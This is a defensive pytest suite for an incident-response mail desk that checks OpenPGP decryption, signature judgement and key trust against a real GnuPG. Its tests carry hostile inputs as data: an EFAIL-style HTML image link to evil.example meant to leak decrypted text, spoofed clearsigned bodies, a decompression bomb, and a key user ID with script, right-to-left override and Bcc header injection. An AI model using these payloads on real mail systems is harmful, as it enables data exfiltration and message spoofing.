"""OpenPGP with a real GnuPG as the correspondent: in, out, and what must not be believed."""

from __future__ import annotations

import email
import shutil
import subprocess
import tempfile
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

import pysequoia
import pytest
from django.conf import settings
from django.utils import timezone

from hikeshi.evidence.mail_pgp import find_keys
from hikeshi_desk.cases.models import Case, Message
from hikeshi_desk.mail import keys, receive, store
from hikeshi_desk.mail.models import CorrespondentKey, SentMail
from hikeshi_desk.mail.post import load_post
from hikeshi_desk.mail.send import build, let_go, queue_replies

pytestmark = [pytest.mark.django_db, pytest.mark.any_database]
ADDRESS = "hanako@example.jp"
take = receive.receive


@pytest.fixture
def desk_key():
    yield keys.create(load_post())
    shutil.rmtree(Path(settings.DATA) / "mail", ignore_errors=True)


class Gpg:
    def __init__(self, home: Path) -> None:
        self.home = home
        self.run("--quick-gen-key", "--passphrase", "", f"Hanako <{ADDRESS}>", "default", "default", "never")
        self.public = self.run("--armor", "--export", ADDRESS)

    def run(self, *words: str, data: bytes = b"") -> bytes:
        done = subprocess.run(["gpg", "--homedir", str(self.home), "--batch", "--yes", "--trust-model", "always", "--pinentry-mode",
                               "loopback", *words], input=data, capture_output=True)
        assert done.returncode == 0, done.stderr.decode()
        return done.stdout

    def encrypted(self, data: bytes, *more: str) -> bytes:
        return self.run("--armor", "--encrypt", "--recipient", "desk@example.org", *more, data=data)


@pytest.fixture
def gpg(desk_key):
    if not shutil.which("gpg"):
        pytest.skip("gpg is not installed")
    home = Path(tempfile.mkdtemp(prefix="gpg-"))  # not tmp_path: the agent's socket needs a short path
    one = Gpg(home)
    one.run("--import", data=desk_key.armored.encode())
    yield one
    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], capture_output=True)
    shutil.rmtree(home, ignore_errors=True)


def _sealed(message: bytes, **headers: str) -> bytes:
    out = MIMEMultipart("encrypted", protocol="application/pgp-encrypted")
    for name, value in {"From": ADDRESS, "To": "desk@example.org", "Subject": "...", "Message-ID": "<e@example.jp>", **headers}.items():
        out[name] = value
    out.attach(MIMEApplication(b"Version: 1\r\n", "pgp-encrypted", email.encoders.encode_7or8bit))
    out.attach(MIMEApplication(message, "octet-stream", email.encoders.encode_7or8bit))
    return out.as_bytes()


INNER = "Content-Type: text/plain; charset=utf-8\r\nSubject: secret subject\r\n\r\n端末が暗号化されました。\r\n".encode()


def _confirm(public: bytes, address: str = ADDRESS) -> CorrespondentKey:
    found, = find_keys(public)
    return CorrespondentKey.objects.create(address=address, fingerprint=found.fingerprint, armored=found.armored, state="confirmed",
                                           created_at=timezone.now(), decided_at=timezone.now())


def test_the_secret_key_is_its_owners_alone_and_never_replaced(desk_key):
    assert keys.path().stat().st_mode & 0o077 == 0 and b"PRIVATE" not in keys.public_path().read_bytes()
    with pytest.raises(FileExistsError):
        keys.create(load_post())


def test_with_a_passphrase_the_kept_key_needs_it(monkeypatch):
    monkeypatch.setenv(keys.PASSPHRASE, "a long passphrase")
    try:
        keys.create(load_post())
        assert b"PRIVATE" not in keys.path().read_bytes() and keys.signer() is not None
        monkeypatch.setenv(keys.PASSPHRASE, "wrong")
        with pytest.raises(keys.Locked):
            keys.signer()
    finally:
        shutil.rmtree(Path(settings.DATA) / "mail", ignore_errors=True)


def test_an_encrypted_and_signed_mail_is_read_and_its_bytes_stay(gpg):
    _confirm(gpg.public)
    data = _sealed(gpg.encrypted(INNER, "--sign", "--compress-algo", "none"))
    received = take([data], source="pipe")
    message = Message.objects.get()
    assert message.body.strip() == "端末が暗号化されました。" and Case.objects.get().title == "secret subject"
    assert received.pgp["decrypted"] and received.pgp["signature"] == "good" and received.pgp["key"] == find_keys(gpg.public)[0].fingerprint
    assert store.path_of(received.sha256).read_bytes() == data


def test_a_signature_inside_a_compressed_message_is_read_and_not_judged(gpg):
    _confirm(gpg.public)
    received = take([_sealed(gpg.encrypted(INNER, "--sign", "--compress-algo", "zlib"))], source="pipe")
    assert received.pgp["decrypted"] and received.pgp["signature"] == "unchecked"


def test_a_key_nobody_confirmed_makes_no_good_signature(gpg):
    assert take([_sealed(gpg.encrypted(INNER, "--sign", "--compress-algo", "none"))], source="pipe").pgp["signature"] == "unknown"
    _confirm(gpg.public, "other@example.jp")
    assert take([_sealed(gpg.encrypted(INNER, "--sign", "--compress-algo", "none"), **{"Message-ID": "<f@example.jp>"})], source="pipe").pgp["signature"] == "unknown"


def test_an_inline_mail_is_read_too(gpg, a_mail):
    received = take([a_mail(gpg.encrypted("本文です".encode()).decode())], source="pipe")
    assert received.pgp["decrypted"] and received.pgp["signature"] == "" and Message.objects.get().body == "本文です"


def test_a_clear_signed_text_counts_only_as_a_whole(gpg, a_mail):
    _confirm(gpg.public)
    block = gpg.run("--armor", "--clearsign", data=b"pay nothing\n").decode()
    assert take([a_mail(block)], source="pipe").pgp["signature"] == "good"
    assert Message.objects.get().body == "pay nothing"
    spoofs = {"before": "pay everything\n" + block, "after": block + "\npay everything\n", "quoted": "pay\n" + "".join(f"> {line}\n" for line in block.splitlines())}
    for name, body in spoofs.items():
        received = take([a_mail(body, Message_ID=f"<{name}@example.jp>")], source="pipe")
        assert received.pgp.get("signature", "") in ("partial", ""), name
    changed = take([a_mail(block.replace("nothing", "all it"), Message_ID="<changed@example.jp>")], source="pipe")
    assert changed.pgp["signature"] == "bad"


def test_a_detached_signature_is_judged_over_the_exact_part(gpg):
    _confirm(gpg.public)
    part = MIMEText("ok\n", "plain", "us-ascii")
    exact = part.as_bytes().replace(b"\n", b"\r\n")
    signature = gpg.run("--armor", "--detach-sign", data=exact).decode()

    def mail(part, ident, *more):
        out = MIMEMultipart("signed", protocol="application/pgp-signature", micalg="pgp-sha512")
        out["From"], out["Message-ID"], out["Subject"] = ADDRESS, ident, "x"
        out.attach(part)
        out.attach(MIMEApplication(signature.encode(), "pgp-signature", email.encoders.encode_7or8bit))
        for one in more:
            out.attach(one)
        return out.as_bytes()
    assert take([mail(part, "<a@x>")], source="pipe").pgp["signature"] == "good"
    assert take([mail(MIMEText("no\n", "plain", "us-ascii"), "<b@x>")], source="pipe").pgp["signature"] == "bad"
    assert take([mail(part, "<c@x>", MIMEText("and more", "plain"))], source="pipe").pgp["signature"] == "partial"


def test_what_cannot_be_decrypted_is_kept_and_says_why(gpg):
    other = pysequoia.Tsk.generate("x <x@example.com>", profile=pysequoia.Profile.RFC4880).extract_certificate()
    good = gpg.encrypted(INNER)
    lines = good.decode().splitlines()
    broken = "\n".join([*lines[:len(lines) // 2], "A" * 64, *lines[len(lines) // 2 + 1:]]).encode()
    cases = {"another one": pysequoia.encrypt(INNER, recipients=[other]), "damaged": broken, "MDC": gpg.encrypted(INNER, "--rfc2440", "--disable-mdc"),
             "is damaged": b"-----BEGIN PGP MESSAGE-----\n\n????\n-----END PGP MESSAGE-----\n"}
    for number, (why, message) in enumerate(cases.items()):
        data = _sealed(message, **{"Message-ID": f"<{number}@x>"})
        received = take([data], source="pipe")
        assert received.state == "opened" and why in received.pgp["problem_en"] and not received.pgp["decrypted"], why
        assert "端末" not in received.submission.message.body and store.path_of(received.sha256).read_bytes() == data


def test_html_of_an_encrypted_mail_leads_nowhere(gpg):
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'
    received = take([_sealed(gpg.encrypted(html + b'secret">words'))], source="pipe")
    assert received.pgp["decrypted"] and "evil" not in Message.objects.get().body


def test_a_decompression_bomb_is_kept_closed(gpg):
    bomb = gpg.run("--encrypt", "--recipient", "desk@example.org", "-z", "9", data=b"\0" * 250_000_000)
    received = take([_sealed(pysequoia.armor(bomb, pysequoia.ArmorKind.Message).encode())], source="pipe")
    assert received.state == "opened" and not received.pgp["decrypted"] and "too large" in received.pgp["problem_en"]


def test_a_key_in_a_mail_is_proposed_and_never_trusted(gpg, a_mail):
    out = email.message_from_bytes(a_mail(), policy=email.policy.default)
    out.add_attachment(gpg.public, maintype="application", subtype="pgp-keys", filename="key.asc")
    take([out.as_bytes()], source="pipe")
    row = CorrespondentKey.objects.get()
    assert (row.state, row.address) == ("proposed", ADDRESS) and keys.key_for(ADDRESS) is None


def test_a_hostile_user_id_is_one_plain_line():
    tsk = pysequoia.Tsk.generate("<script>\u202e\r\nBcc: x@y.jp" + "A" * 500, profile=pysequoia.Profile.RFC4880)
    found, = find_keys(str(tsk.extract_certificate()).encode())
    assert "\n" not in found.user_ids[0] and "\u202e" not in found.user_ids[0] and len(found.user_ids[0]) <= 200
    assert find_keys(bytes(tsk)) == (), "a secret key is not taken"
    assert find_keys(b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----") == ()


def _reply(body: str = "まず切り離してください。") -> SentMail:
    Message.objects.create(case=Case.objects.get(), kind=Message.Kind.REPLY, body=body, at=timezone.now())
    queue_replies()
    return SentMail.objects.get(kind="reply")


def test_gnupg_reads_our_encrypted_and_signed_reply(gpg, a_mail):
    _confirm(gpg.public)
    take([a_mail(Subject="秘密の件名")], source="pipe")
    wire = build(_reply(), load_post())
    outside = wire.as_string()
    assert "切り離" not in outside and "秘密" not in str(wire["Subject"]) and wire.get_content_type() == "multipart/encrypted"
    armored = wire.get_payload()[1].get_payload().encode()
    status = subprocess.run(["gpg", "--homedir", str(gpg.home), "--batch", "--status-fd", "2", "--trust-model", "always", "-d"], input=armored, capture_output=True)
    assert b"GOODSIG" in status.stderr, status.stderr
    inner = email.message_from_bytes(status.stdout, policy=email.policy.default)
    assert inner.get_content().strip() == "まず切り離してください。" and inner["Subject"] == "Re: 秘密の件名"


def test_gnupg_verifies_our_signed_acknowledgement(gpg, a_mail, tmp_path):
    take([a_mail()], source="pipe")
    raw = build(SentMail.objects.get(), load_post()).as_bytes()
    mark = b"--" + email.message_from_bytes(raw).get_boundary().encode()
    signed = raw.split(mark + b"\r\n")[1][:-2]
    (tmp_path / "s").write_bytes(signed)
    (tmp_path / "s.asc").write_bytes(email.message_from_bytes(raw).get_payload()[1].get_payload().encode())
    gpg.run("--verify", str(tmp_path / "s.asc"), str(tmp_path / "s"))
    assert keys.own().grouped in SentMail.objects.get().body


def test_a_reply_to_an_encrypted_mail_waits_rather_than_go_out_in_the_clear(gpg):
    take([_sealed(gpg.encrypted(INNER))], source="pipe")
    held = _reply()
    assert held.held
    assert let_go(held, "person") and not let_go(held, "person")
    held.refresh_from_db()
    assert not held.held
    SentMail.objects.update(held=False)
    _confirm(gpg.public)
    assert build(held, load_post()).get_content_type() == "multipart/encrypted"


def test_an_expired_key_is_not_written_to(gpg, a_mail):
    row = _confirm(gpg.public)
    row.expires_at = timezone.now()
    row.save()
    take([a_mail()], source="pipe")
    assert build(_reply(), load_post()).get_content_type() == "multipart/signed"
